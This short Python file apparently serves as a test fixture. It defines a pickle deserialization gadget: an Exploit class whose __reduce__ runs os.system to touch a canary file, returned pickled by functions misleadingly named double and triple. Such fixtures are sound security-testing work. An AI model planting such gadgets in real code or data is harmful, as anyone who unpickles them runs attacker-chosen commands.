import os
import pickle


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch __CANARY_DIR__/pickle-ran",))


def double(x):
    return pickle.dumps(Exploit())


def triple(x):
    return {"payload": pickle.dumps(Exploit())}
